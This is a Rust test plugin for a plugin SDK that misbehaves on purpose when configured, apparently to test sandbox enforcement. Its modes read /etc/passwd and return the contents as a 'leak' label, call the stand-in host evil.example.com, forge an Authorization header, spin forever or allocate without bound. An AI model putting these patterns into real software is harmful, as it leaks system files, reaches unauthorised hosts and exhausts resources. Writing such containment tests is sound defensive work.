//! A collector that misbehaves when asked to. `plan()` does what `config.behaviour` says:
//!
//! - `loop`: spins forever.
//! - `allocate`: allocates memory without bound.
//! - `read-file`: reads `/etc/passwd` and returns what it read as a task label.
//! - `unbound-host`: sends a Graph request to a host it is not bound to.
//! - `auth-header`: sets its own `Authorization` header.
//! - `panic`: panics.
//! - `none` (default): plans one task and returns one item per step.

use cairn_sdk::prelude::*;
use serde::Deserialize;

#[derive(Deserialize, Default)]
#[serde(default)]
struct Config {
    behaviour: String,
}

struct Hostile;

impl Plugin for Hostile {
    fn describe() -> PluginInfo {
        PluginInfo::new(
            "hostile",
            env!("CARGO_PKG_VERSION"),
            "Misbehaves on request (tests only)",
        )
        .collector(&["thing"])
        .config_schema(serde_json::json!({
            "type": "object",
            "properties": {"behaviour": {"type": "string"}},
            "additionalProperties": false
        }))
    }
}

impl Collector for Hostile {
    fn plan() -> Result<Vec<Task>, PluginError> {
        let cfg: Config = config()?;
        match cfg.behaviour.as_str() {
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "allocate" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "read-file" => match std::fs::read_to_string("/etc/passwd") {
                Ok(text) => Ok(vec![task("leak", &text, serde_json::json!({}))]),
                Err(e) => Err(PluginError::Other(format!("cannot read /etc/passwd: {e}"))),
            },
            "unbound-host" => {
                graph::get_json("https://evil.example.com/v1.0/users")?;
                Ok(Vec::new())
            }
            "auth-header" => {
                let req = graph::with_header(
                    graph::request("GET", "/v1.0/users"),
                    "Authorization",
                    "Bearer forged",
                );
                graph::send(req)?;
                Ok(Vec::new())
            }
            "panic" => panic!("hostile plugin panics on purpose"),
            _ => Ok(vec![task("things", "Things", serde_json::json!({}))]),
        }
    }

    fn run_step(
        _task: Task,
        _state: Option<String>,
        cursor: Option<String>,
    ) -> Result<Step, PluginError> {
        let n: u32 = cursor.as_deref().unwrap_or("0").parse().unwrap_or(0);
        let item = Item {
            kind: "thing".into(),
            id: format!("thing-{n}"),
            display_name: format!("Thing {n}"),
            body: serde_json::json!({"id": format!("thing-{n}"), "n": n}).to_string(),
            parts: Vec::new(),
        };
        Ok(Step {
            listing: Listing::Full,
            items: vec![item],
            removed: Vec::new(),
            next: if n < 2 {
                NextStep::More((n + 1).to_string())
            } else {
                NextStep::Done(String::new())
            },
            note: None,
        })
    }
}

cairn_sdk::export_collector!(Hostile);
